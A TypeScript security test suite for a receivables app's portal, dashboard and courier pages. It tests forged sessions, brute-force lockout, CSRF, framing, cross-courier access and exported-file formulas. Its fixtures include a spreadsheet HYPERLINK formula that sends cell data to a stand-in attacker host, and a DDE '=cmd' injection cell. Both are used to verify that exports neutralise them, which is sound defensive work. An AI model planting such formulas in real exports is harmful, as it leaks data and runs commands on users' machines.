// Attacks on the pages (portal, dashboard, courier page) and on the courier phones' signed events, against a real
// ledger in Postgres and a real SMTP server on loopback: forged, expired, over-cap, revoked and leaked sessions,
// non-canonical signatures, brute force, cross-courier access, framing, CSRF, bad bytes, database failures,
// formulas in exported files, event times, and keys kept apart per purpose.
import { randomBytes } from 'node:crypto';
import {
	callListCsv,
	checkSession,
	composeMail,
	enrolCourierDevice,
	handleCourierRequest,
	handleDashboardRequest,
	handlePortalRequest,
	markInvoicesEntered,
	neutraliseCell,
	openSession,
	planWaves,
	receiveCourierRequest,
	recordCourierEvents,
	releaseWave,
	revokeCourierDevice,
	rotateServerKey,
	saveCourierAccount,
	savePortalUser,
	lockoutMail,
	sendMails,
	serverKeys,
	signToken,
	signWebhookRequest,
	deliveryToken,
	readDeliveryToken,
	verifyToken,
	SESSION_CAP_SECONDS,
	type Ledger,
	type LockoutNotifier,
	type PageRequest,
	type PageResponse,
} from '../../core';
import { localiseRows } from '../../nodes/ReceivablesReport/helpers/rows';
import { createTestLedger, dropTestLedger } from '../helpers/db';
import { startSmtpSink, type SmtpSink } from '../helpers/smtpSink';

const formOf = (html: string) => /name="form" value="([^"]+)"/.exec(html)?.[1] ?? '';
const sessionOf = (html: string) => /name="session" value="([^"]+)"/.exec(html)?.[1] ?? '';
type Handler = (req: PageRequest) => Promise<PageResponse>;

async function seed(ledger: Ledger): Promise<void> {
	await ledger.query(`INSERT INTO staff (code, name, email, roles) VALUES ('C1', 'Youssef', 'youssef@example.test', '{courier}'), ('C2', 'Awa', 'awa@example.test', '{courier}'),
		('R1', 'Rep One', 'rep.one@example.test', '{sales_rep}')`);
	await ledger.query(`INSERT INTO customers (external_id, name, billing_cycle, zone, city, country, currency, address_lines, sales_rep_code) VALUES
		('K1', '=HYPERLINK("http://evil.example/?x="&A1,"Atlas")', 'monthly', 'Z1', 'Casablanca', 'MA', 'MAD', '{"12 rue Allal"}', 'R1'),
		('K2', 'Dakar Trading', 'monthly', 'Z2', 'Dakar', 'SN', 'XOF', '{"1 av. Senghor"}', 'R1')`);
	for (const [n, c] of [
		['MA-1', 'K1'],
		['MA-2', 'K1'],
		['SN-1', 'K2'],
	]) {
		await ledger.query(
			`INSERT INTO invoices (number, customer_id, currency, total_excl_minor, total_incl_minor, payable_minor, open_minor, issue_date, due_date, content_hash)
			SELECT $1, id, currency, 250000, 250000, 250000, 250000, '2026-03-10', '2026-04-09', md5($1) FROM customers WHERE external_id = $2`,
			[n, c],
		);
	}
	await planWaves(ledger, {
		runDate: '2026-03-31',
		startDate: '2026-03-30',
		maxPerCourierPerDay: 10,
		couriers: ['C1'],
	});
	await ledger.query(`UPDATE waves SET courier_code = 'C2' WHERE zone = 'Z2'`);
	for (const w of await ledger.query<{ code: string }>('SELECT code FROM waves')) {
		await markInvoicesEntered(ledger, { waveCode: w.code });
		await releaseWave(ledger, { waveCode: w.code, releasedAt: new Date(Date.now() - 3600_000) });
	}
	await savePortalUser(ledger, {
		login: 'rep1',
		name: 'Rep One',
		level: 2,
		staffCode: 'R1',
		secret: 'rep one secret',
		language: 'fr',
	});
	await savePortalUser(ledger, {
		login: 'boss',
		name: 'Direction',
		level: 1,
		secret: 'direction secret',
		language: 'en',
		email: 'direction@example.test',
	});
	await saveCourierAccount(ledger, {
		login: 'youssef',
		name: 'Youssef',
		staffCode: 'C1',
		secret: 'courier one secret',
	});
	await saveCourierAccount(ledger, {
		login: 'awa',
		name: 'Awa',
		staffCode: 'C2',
		secret: 'courier two secret',
	});
}

describe('security of the pages and of the couriers’ phones', () => {
	let ledger: Ledger;
	let sink: SmtpSink;
	let notify: LockoutNotifier;
	beforeAll(async () => {
		ledger = await createTestLedger();
		await seed(ledger);
		sink = await startSmtpSink();
		notify = async (n) => {
			const m = lockoutMail(n);
			const mail = await composeMail({
				from: { address: 'noreply@example.test' },
				to: [{ name: n.name, address: n.email }],
				subject: m.subject,
				text: m.text,
			});
			const [r] = await sendMails(sink.config, [mail]);
			if (r.verdict !== 'sent') throw new Error(r.error);
		};
	});
	afterAll(async () => {
		await sink.close();
		await dropTestLedger(ledger);
	});

	const portal: Handler = (req) => handlePortalRequest(ledger, req, { notify });
	const courier: Handler = (req) => handleCourierRequest(ledger, req, { notify });
	const dashboard: Handler = (req) =>
		handleDashboardRequest(ledger, req, { notify, overview: { asOf: '2026-04-30' } });
	const signIn = async (
		handler: Handler,
		login: string,
		secret: string,
		headers: Record<string, string> = {},
	) =>
		handler({
			headers,
			body: { action: 'login', login, secret, form: formOf((await handler({ headers })).body) },
		});

	describe('sessions', () => {
		it('refuses a session signed with any other key, even with the right shape', async () => {
			const ok = await signIn(portal, 'rep1', 'rep one secret');
			const token = sessionOf(ok.body);
			const payload = JSON.parse(
				Buffer.from(token.split('.')[0], 'base64url').toString('utf8'),
			) as { s: string };
			// The webhook secret, a made-up key, the QR key: none of them signs sessions.
			for (const key of [
				'the-integration-webhook-secret-0123',
				randomBytes(32),
				(await serverKeys(ledger, 'qr'))[0],
				(await serverKeys(ledger, 'form'))[0],
			]) {
				const forged = signToken({ s: payload.s }, key, 'portal-session', 3600);
				expect(await checkSession(ledger, { token: forged, kind: 'portal' })).toBeUndefined();
				const r = await portal({
					body: { action: 'search', session: forged, form: formOf(ok.body) },
				});
				expect(r.body).toContain('name="secret"');
				expect(r.body).not.toContain('MA-1');
			}
			// A courier session is not a portal session.
			const c = await signIn(courier, 'youssef', 'courier one secret');
			expect(
				await checkSession(ledger, { token: sessionOf(c.body), kind: 'portal' }),
			).toBeUndefined();
		});

		it('accepts one spelling of a signature only (canonical base64url)', async () => {
			const ok = await signIn(portal, 'rep1', 'rep one secret');
			const token = sessionOf(ok.body);
			expect(await checkSession(ledger, { token, kind: 'portal' })).toBeDefined();
			const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
			const last = alphabet.indexOf(token.slice(-1));
			const variants = [1, 2, 3].map(
				(d) => token.slice(0, -1) + alphabet[(last & ~3) | ((last + d) & 3)],
			);
			for (const v of variants) {
				// Same bytes once decoded: a lax decoder would take them.
				expect(
					Buffer.from(v.split('.')[1], 'base64url').equals(
						Buffer.from(token.split('.')[1], 'base64url'),
					),
				).toBe(true);
				expect(verifyToken(v, await serverKeys(ledger, 'session'), 'portal-session')).toEqual({
					ok: false,
					reason: 'malformed',
				});
				expect(await checkSession(ledger, { token: v, kind: 'portal' })).toBeUndefined();
			}
		});

		it('caps the lifetime server-side: a 10-year expiry in a token signed with the real key does not outlive the cap', async () => {
			const [user] = await ledger.query<{ id: string; session_version: number }>(
				`SELECT id::text, session_version FROM portal_users WHERE login = 'rep1'`,
			);
			const t0 = new Date('2026-03-31T08:00:00Z');
			const s = await openSession(ledger, {
				kind: 'portal',
				subjectId: user.id,
				subjectVersion: user.session_version,
				idleSeconds: 30 * 60,
				now: t0,
			});
			// Whoever held the session key could write any expiry: the row decides.
			const tenYears = signToken(
				{ s: s.id },
				(await serverKeys(ledger, 'session'))[0],
				'portal-session',
				10 * 365 * 86400,
				t0,
			);
			let t = t0.getTime();
			const cap = SESSION_CAP_SECONDS.portal * 1000;
			while (t + 20 * 60_000 < t0.getTime() + cap) {
				t += 20 * 60_000; // active every 20 minutes
				expect(
					await checkSession(ledger, { token: tenYears, kind: 'portal', now: new Date(t) }),
				).toBeDefined();
			}
			expect(
				await checkSession(ledger, {
					token: tenYears,
					kind: 'portal',
					now: new Date(t0.getTime() + cap + 1000),
				}),
			).toBeUndefined();
			// Idle for longer than the idle time: ended too.
			const s2 = await openSession(ledger, {
				kind: 'portal',
				subjectId: user.id,
				subjectVersion: user.session_version,
				idleSeconds: 30 * 60,
				now: t0,
			});
			expect(
				await checkSession(ledger, {
					token: s2.token,
					kind: 'portal',
					now: new Date(t0.getTime() + 31 * 60_000),
				}),
			).toBeUndefined();
		});

		it('revokes on logout, on a disabled user, on a lost phone; every request checks it', async () => {
			const ok = await signIn(portal, 'rep1', 'rep one secret');
			const token = sessionOf(ok.body);
			const out = await portal({
				body: { action: 'logout', session: token, form: formOf(ok.body) },
			});
			expect(out.body).toContain('name="secret"');
			const after = await portal({
				body: { action: 'search', session: token, form: formOf(ok.body) },
			});
			expect(after.body).toContain('name="secret"');
			expect(after.body).not.toContain('MA-1');
			expect(
				(
					await ledger.query(
						`SELECT revoked_reason FROM page_sessions WHERE revoked_at IS NOT NULL AND revoked_reason = 'logout'`,
					)
				).length,
			).toBeGreaterThan(0);

			const boss = await signIn(dashboard, 'boss', 'direction secret');
			expect(boss.body).toContain('Direction');
			await savePortalUser(ledger, {
				login: 'boss',
				name: 'Direction',
				level: 1,
				secret: 'direction secret',
				language: 'en',
				active: false,
			});
			expect(
				(
					await dashboard({
						body: { action: 'dashboard', session: sessionOf(boss.body), form: formOf(boss.body) },
					})
				).body,
			).toContain('name="secret"');
			await savePortalUser(ledger, {
				login: 'boss',
				name: 'Direction',
				level: 1,
				secret: 'direction secret',
				language: 'en',
				active: true,
			});

			const phone = await enrolCourierDevice(ledger, {
				courierLogin: 'youssef',
				label: 'Lost phone',
			});
			const spare = await enrolCourierDevice(ledger, {
				courierLogin: 'youssef',
				label: 'Spare phone',
			});
			const page = await signIn(courier, 'youssef', 'courier one secret');
			expect(page.body).toContain('data-invoice="MA-1"');
			await revokeCourierDevice(ledger, { deviceId: phone.deviceId });
			expect((await courier({ body: { session: sessionOf(page.body) } })).body).toContain(
				'name="secret"',
			);
			// The lost phone's key is dead; the spare phone's key and the other couriers keep working.
			const body = Buffer.from(
				JSON.stringify({
					events: [
						{
							eventId: 'lost-1',
							type: 'picked_up',
							invoiceNumber: 'MA-1',
							occurredAt: new Date().toISOString(),
						},
					],
				}),
			);
			const sign = (key: string, device: string, id: string) => ({
				'X-Receivables-Device': device,
				'X-Receivables-Delivery': id,
				'X-Receivables-Signature': signWebhookRequest({
					rawBody: body,
					secret: key,
					deliveryId: id,
					timestamp: Math.floor(Date.now() / 1000),
				}),
			});
			expect(
				await receiveCourierRequest(
					ledger,
					{ rawBody: body, headers: sign(phone.key, phone.deviceId, 'lost-d1') },
					{},
				),
			).toMatchObject({ httpStatus: 401, code: 'DEVICE_UNKNOWN' });
			expect(
				await receiveCourierRequest(
					ledger,
					{ rawBody: body, headers: sign(spare.key, spare.deviceId, 'spare-d1') },
					{},
				),
			).toMatchObject({ httpStatus: 200, code: 'OK' });
		});

		it('never takes a session from an address: refused with 400 and the leaked session revoked', async () => {
			const ok = await signIn(portal, 'rep1', 'rep one secret');
			const token = sessionOf(ok.body);
			const r = await portal({ query: { session: token, action: 'csv' } });
			expect(r.status).toBe(400);
			expect(r.body).toContain('adresse');
			expect(r.body).not.toContain('MA-1');
			expect(await checkSession(ledger, { token, kind: 'portal' })).toBeUndefined();
			// Nothing but the language is read from the address: a login there is not even tried.
			const viaGet = await portal({
				query: { action: 'login', login: 'rep1', secret: 'rep one secret' },
			});
			expect(viaGet.body).toContain('name="secret"');
			expect(viaGet.body).not.toContain('MA-1');
		});
	});

	describe('brute force', () => {
		it('locks an account after 5 failures, e-mails its owner once, refuses even the right secret while locked', async () => {
			const headers = { 'x-forwarded-for': '203.0.113.7', 'user-agent': 'attacker' };
			for (let i = 0; i < 5; i++)
				expect((await signIn(portal, 'rep1', `guess number ${i}`, headers)).status).toBe(401);
			const locked = await signIn(portal, 'rep1', 'rep one secret', headers);
			expect(locked.status).toBe(429);
			expect(locked.body).toContain('Trop d&#39;échecs de connexion');
			expect(locked.body).not.toContain('MA-1');
			// The right secret from another place is refused too while the account is locked.
			expect(
				(await signIn(portal, 'rep1', 'rep one secret', { 'x-forwarded-for': '198.51.100.1' }))
					.status,
			).toBe(429);
			const mails = (await sink.parsed()).filter(
				(m) => m.to && JSON.stringify(m.to).includes('rep.one@example.test'),
			);
			expect(mails).toHaveLength(1);
			expect(mails[0].subject).toMatch(/Connexion bloquée/);
			expect(mails[0].text).toContain('203.0.113.7');
			expect(mails[0].text).not.toContain('guess number');
			// An unknown login is counted and locked the same way (no hint that an account exists), without any e-mail.
			for (let i = 0; i < 5; i++)
				await signIn(portal, 'ghost', `guess ${i} ghost`, { 'x-forwarded-for': '203.0.113.8' });
			expect(
				(await signIn(portal, 'ghost', 'whatever secret', { 'x-forwarded-for': '203.0.113.8' }))
					.status,
			).toBe(429);
			expect(
				await ledger.query(
					`SELECT 1 FROM login_throttle WHERE scope = 'account' AND key = 'portal:rep1' AND notified_at IS NOT NULL`,
				),
			).toHaveLength(1);
			await ledger.query(`UPDATE login_throttle SET locked_until = now() - interval '1 second'`);
			expect((await signIn(portal, 'rep1', 'rep one secret')).status).toBe(200);
		}, 60_000);

		it('locks a client address guessing many accounts', async () => {
			const headers = { 'x-forwarded-for': '192.0.2.50' };
			let last: PageResponse | undefined;
			for (let i = 0; i < 30; i++)
				last = await signIn(courier, `spray${i}`, 'password123!', headers);
			expect(last?.status).toBe(401);
			const next = await signIn(courier, 'youssef', 'courier one secret', headers);
			expect(next.status).toBe(429);
			expect(next.body).not.toContain('data-invoice');
			expect(
				(
					await signIn(courier, 'youssef', 'courier one secret', {
						'x-forwarded-for': '192.0.2.51',
					})
				).status,
			).toBe(200);
			await ledger.query(`DELETE FROM login_throttle`);
		}, 120_000);

		it('counts the connection’s own address, not the address headers a client writes; trusts them only from a proxy on a private network', async () => {
			const from =
				(peer: string): Handler =>
				(req) =>
					courier({ ...req, peer });
			// A guesser reaching n8n directly (a public peer) writes a new X-Real-IP / X-Forwarded-For on every try.
			const direct = from('203.0.113.7');
			for (let i = 0; i < 30; i++)
				await signIn(direct, `direct${i}`, 'password123!', {
					'x-real-ip': `198.51.100.${i}`,
					'x-forwarded-for': `198.51.100.${i + 100}`,
				});
			const locked = await signIn(direct, 'youssef', 'courier one secret', {
				'x-real-ip': '198.51.100.250',
			});
			expect(locked.status).toBe(429);
			expect(locked.body).not.toContain('data-invoice');
			// Another client, and a header naming the guesser's address from elsewhere, are not locked out by it.
			expect(
				(
					await signIn(from('203.0.113.8'), 'youssef', 'courier one secret', {
						'x-real-ip': '203.0.113.7',
					})
				).status,
			).toBe(200);
			// Behind the reverse proxy (a private peer, e.g. Docker's network) the address the proxy reports is the client's.
			const proxy = from('::ffff:172.18.0.2');
			for (let i = 0; i < 30; i++)
				await signIn(proxy, `proxied${i}`, 'password123!', { 'x-real-ip': '192.0.2.70' });
			expect(
				(await signIn(proxy, 'youssef', 'courier one secret', { 'x-real-ip': '192.0.2.70' }))
					.status,
			).toBe(429);
			expect(
				(await signIn(proxy, 'youssef', 'courier one secret', { 'x-real-ip': '192.0.2.71' }))
					.status,
			).toBe(200);
			await ledger.query(`DELETE FROM login_throttle`);
		}, 240_000);
	});

	describe('couriers see and touch only their own waves', () => {
		it('answers another courier’s invoice like an unknown one, on the page and from a phone', async () => {
			const awa = await signIn(courier, 'awa', 'courier two secret');
			expect(awa.body).toContain('data-invoice="SN-1"');
			expect(awa.body).not.toContain('data-invoice="MA-1"');
			const other = await courier({
				body: {
					action: 'record',
					session: sessionOf(awa.body),
					form: formOf(awa.body),
					eventId: 'pg-cross-000001',
					code: 'MA-2',
					type: 'refused',
					occurredAt: new Date().toISOString(),
				},
			});
			const unknown = await courier({
				body: {
					action: 'record',
					session: sessionOf(awa.body),
					form: formOf(awa.body),
					eventId: 'pg-cross-000002',
					code: 'XX-404',
					type: 'refused',
					occurredAt: new Date().toISOString(),
				},
			});
			expect(other.status).toBe(422);
			const message = (html: string) =>
				/role="alert">([^<]*)</.exec(html)?.[1]?.replace('MA-2', '#').replace('XX-404', '#');
			expect(message(other.body)).toBe(message(unknown.body));
			expect(other.body).not.toMatch(/W20260331-Z1|Youssef|autre coursier/);
			// By QR code too, and from a phone signed with Awa's own key naming Youssef: refused.
			const [d] = await ledger.query<{ id: string }>(
				`SELECT d.id FROM deliveries d JOIN invoices i ON i.id = d.invoice_id WHERE i.number = 'MA-2'`,
			);
			const [viaQr] = await recordCourierEvents(ledger, [
				{
					eventId: 'qr-cross-0001',
					type: 'refused',
					courierCode: 'C2',
					qrToken: deliveryToken(d.id, (await serverKeys(ledger, 'qr'))[0]),
					occurredAt: new Date().toISOString(),
				},
			]);
			expect(viaQr).toMatchObject({ ok: false, code: 'EVENT_INVOICE_UNKNOWN' });
			const phone = await enrolCourierDevice(ledger, { courierLogin: 'awa', label: 'Awa phone' });
			const body = Buffer.from(
				JSON.stringify({
					events: [
						{
							eventId: 'dev-cross-01',
							type: 'refused',
							courierCode: 'C1',
							invoiceNumber: 'MA-2',
							occurredAt: new Date().toISOString(),
						},
						{
							eventId: 'dev-cross-02',
							type: 'refused',
							invoiceNumber: 'MA-2',
							occurredAt: new Date().toISOString(),
						},
					],
				}),
			);
			const r = await receiveCourierRequest(
				ledger,
				{
					rawBody: body,
					headers: {
						'X-Receivables-Device': phone.deviceId,
						'X-Receivables-Delivery': 'cross-1',
						'X-Receivables-Signature': signWebhookRequest({
							rawBody: body,
							secret: phone.key,
							deliveryId: 'cross-1',
							timestamp: Math.floor(Date.now() / 1000),
						}),
					},
				},
				{},
			);
			expect(r.results?.map((x) => (x.ok ? 'ok' : x.code))).toEqual([
				'EVENT_COURIER_NOT_DEVICE',
				'EVENT_INVOICE_UNKNOWN',
			]);
			expect(
				await ledger.query(`SELECT 1 FROM courier_events WHERE event_id LIKE '%cross%'`),
			).toHaveLength(0);
		});

		it('bounds event times: not in the future beyond the clock skew, not before the wave left', async () => {
			const [w] = await ledger.query<{ released_at: Date }>(
				`SELECT released_at FROM waves WHERE courier_code = 'C1'`,
			);
			const at = (ms: number) => new Date(ms).toISOString();
			const results = await recordCourierEvents(ledger, [
				{
					eventId: 'time-future-1',
					type: 'picked_up',
					courierCode: 'C1',
					invoiceNumber: 'MA-1',
					occurredAt: at(Date.now() + 6 * 60_000),
				},
				{
					eventId: 'time-before-1',
					type: 'picked_up',
					courierCode: 'C1',
					invoiceNumber: 'MA-1',
					occurredAt: at(w.released_at.getTime() - 6 * 60_000),
				},
				{
					eventId: 'time-skew-ok1',
					type: 'picked_up',
					courierCode: 'C1',
					invoiceNumber: 'MA-1',
					occurredAt: at(Date.now() + 2 * 60_000),
				},
				{
					eventId: 'time-skew-ok2',
					type: 'picked_up',
					courierCode: 'C1',
					invoiceNumber: 'MA-1',
					occurredAt: at(w.released_at.getTime() - 2 * 60_000),
				},
			]);
			expect(results.map((r) => (r.ok ? 'ok' : r.code))).toEqual([
				'EVENT_TIME_FUTURE',
				'EVENT_TIME_BEFORE_WAVE',
				'ok',
				'ok',
			]);
		});
	});

	describe('framing, CSRF, bad bytes, database failures', () => {
		it('forbids framing on every answer', async () => {
			const ok = await signIn(portal, 'rep1', 'rep one secret');
			const answers = [
				await portal({}),
				ok,
				await portal({
					body: { action: 'csv', session: sessionOf(ok.body), form: formOf(ok.body) },
				}),
				await courier({}),
				await dashboard({}),
				await portal({ body: { login: 'a\u0000b' } }),
				await handlePortalRequest(
					ledger,
					{ body: { action: 'search', session: sessionOf(ok.body), form: formOf(ok.body) } },
					{ dbRole: 'no_such_role_here' },
				),
			];
			for (const r of answers) {
				expect(r.headers['X-Frame-Options']).toBe('DENY');
				expect(r.headers['Content-Security-Policy']).toContain("frame-ancestors 'none'");
			}
		});

		it('refuses forms that did not come from the page: login CSRF and forged actions', async () => {
			// A login posted by another site: no form token, or a token fetched by the attacker for his own browser.
			const bare = await portal({
				body: { action: 'login', login: 'rep1', secret: 'rep one secret' },
			});
			expect(bare.status).toBe(403);
			expect(bare.body).not.toContain('MA-1');
			const attackerForm = formOf(
				(
					await portal({
						headers: { 'user-agent': 'attacker-bot', 'x-forwarded-for': '203.0.113.66' },
					})
				).body,
			);
			const victim = await portal({
				headers: { 'user-agent': 'Mozilla/5.0 victim', 'x-forwarded-for': '198.51.100.20' },
				body: { action: 'login', login: 'rep1', secret: 'rep one secret', form: attackerForm },
			});
			expect(victim.status).toBe(403);
			// An action with a session but a form token of another session (or none) does nothing.
			const a = await signIn(courier, 'youssef', 'courier one secret');
			const b = await signIn(courier, 'youssef', 'courier one secret');
			for (const form of ['', formOf(b.body)]) {
				const r = await courier({
					body: {
						action: 'record',
						session: sessionOf(a.body),
						form,
						eventId: `pg-csrf-${form.length}-0001`,
						code: 'MA-1',
						type: 'refused',
						occurredAt: new Date().toISOString(),
					},
				});
				expect(r.status).toBe(403);
			}
			expect(
				await ledger.query(`SELECT 1 FROM courier_events WHERE event_id LIKE 'pg-csrf-%'`),
			).toHaveLength(0);
		});

		it('answers NUL bytes and invalid UTF-8 with a clear 400, and a database failure with a plain 503', async () => {
			for (const body of [
				{ action: 'login', login: 'rep1\u0000', secret: 'x' },
				{ action: 'login', login: Buffer.from([0x72, 0xc3, 0x28]).toString('utf8'), secret: 'x' },
			]) {
				const r = await portal({ body });
				expect(r.status).toBe(400);
				expect(r.body).toContain('UTF-8');
			}
			const ok = await signIn(portal, 'rep1', 'rep one secret');
			const r = await handlePortalRequest(
				ledger,
				{ body: { action: 'search', session: sessionOf(ok.body), form: formOf(ok.body) } },
				{ dbRole: 'no_such_role_here' },
			);
			expect(r.status).toBe(503);
			expect(r.body).not.toMatch(/no_such|postgres|SQL|does not exist|permission/i);
			expect(r.failure).toMatch(/no_such_role_here/);
		});
	});

	describe('keys per purpose', () => {
		it('QR codes survive a rotation of the session key; a session key rotation ends the sessions', async () => {
			const [d] = await ledger.query<{ id: string }>(
				`SELECT d.id FROM deliveries d JOIN invoices i ON i.id = d.invoice_id WHERE i.number = 'MA-1'`,
			);
			const qr = deliveryToken(d.id, (await serverKeys(ledger, 'qr'))[0]);
			const ok = await signIn(portal, 'rep1', 'rep one secret');
			await rotateServerKey(ledger, 'session', { retirePrevious: true });
			expect(
				await checkSession(ledger, { token: sessionOf(ok.body), kind: 'portal' }),
			).toBeUndefined();
			expect(readDeliveryToken(qr, await serverKeys(ledger, 'qr'))).toBe(d.id);
			// A new QR key keeps the printed codes readable until the old key is retired.
			await rotateServerKey(ledger, 'qr');
			expect(readDeliveryToken(qr, await serverKeys(ledger, 'qr'))).toBe(d.id);
			expect((await ledger.query(`SELECT DISTINCT purpose FROM server_keys`)).length).toBe(3);
		});
	});

	describe('formulas in exported files', () => {
		it('neutralises = + - @ tab CR in the portal CSV, the call list CSV and the report rows', async () => {
			for (const s of ['=1+1', '+33 6 12', '-2+3', '@SUM(A1)', '\tx', '\rx', '＝1'])
				expect(neutraliseCell(s)).toBe(`'${s}`);
			for (const s of ['-12.50', '12', 'Atlas']) expect(neutraliseCell(s)).toBe(s);
			const ok = await signIn(portal, 'rep1', 'rep one secret');
			const csv = await portal({
				body: { action: 'csv', session: sessionOf(ok.body), form: formOf(ok.body) },
			});
			expect(csv.body).toContain(`"'=HYPERLINK(`);
			expect(csv.body).not.toMatch(/(^|;)"?=HYPERLINK/m);
			const calls = callListCsv([
				{
					assignee: null,
					customer: { externalId: '@K1', name: '=cmd|"/c calc"!A1', phone: '+212 600', emails: [] },
					language: 'fr',
					invoices: [],
					totals: [],
					openDisputes: 0,
					promises: { kept: 0, broken: 0 },
					history: [],
					taskId: '1',
				},
			] as never);
			expect(calls).toContain(`'@K1`);
			expect(calls).toContain(`'=cmd`);
			const rows = localiseRows(
				[{ label: '=HYPERLINK("x")', open: '-10.00', detail: '@evil' }],
				'en',
			);
			expect(rows[0]).toEqual({ label: `'=HYPERLINK("x")`, open: '-10.00', detail: "'@evil" });
		});
	});
});
